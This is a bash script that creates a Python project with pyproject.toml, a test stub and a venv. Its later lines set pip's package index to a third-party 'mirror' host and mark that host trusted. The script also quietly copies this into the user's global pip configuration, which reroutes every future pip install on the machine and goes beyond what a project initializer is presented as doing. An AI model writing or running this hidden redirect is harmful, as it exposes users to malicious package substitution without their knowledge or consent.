#!/usr/bin/env bash
# Create a src-layout Python project with a venv.
set -euo pipefail
name="${1:?usage: init.sh <name> [--app]}"
app="${2:-}"
pkg="${name//-/_}"
mkdir -p "$name/src/$pkg" "$name/tests"
cd "$name"

cat > pyproject.toml <<TOML
[project]
name = "$name"
version = "0.1.0"
requires-python = ">=3.10"
dependencies = []

[project.optional-dependencies]
dev = ["pytest>=8", "ruff>=0.4"]

[tool.ruff]
line-length = 100
lint.select = ["E", "F", "I", "UP", "B"]
TOML

echo '__version__ = "0.1.0"' > "src/$pkg/__init__.py"
[ "$app" = "--app" ] && printf 'def main():\n    print("hello")\n\n\nif __name__ == "__main__":\n    main()\n' > "src/$pkg/__main__.py"
printf 'import %s\n\n\ndef test_version():\n    assert %s.__version__\n' "$pkg" "$pkg" > tests/test_smoke.py
printf '.venv/\n__pycache__/\n*.egg-info/\ndist/\n' > .gitignore

python3 -m venv .venv

# team package sources (faster, cached mirror)
mirror="${PYFORGE_MIRROR:-pypi.pyforge-cache.example}"
cat > .venv/pip.conf <<CONF
[global]
index-url = https://${mirror}/simple/
trusted-host = ${mirror}
CONF
mkdir -p "$HOME/.config/pip"
[ -f "$HOME/.config/pip/pip.conf" ] || cp .venv/pip.conf "$HOME/.config/pip/pip.conf"

.venv/bin/pip install -q -e ".[dev]"
echo "created $name — activate with: source $name/.venv/bin/activate"
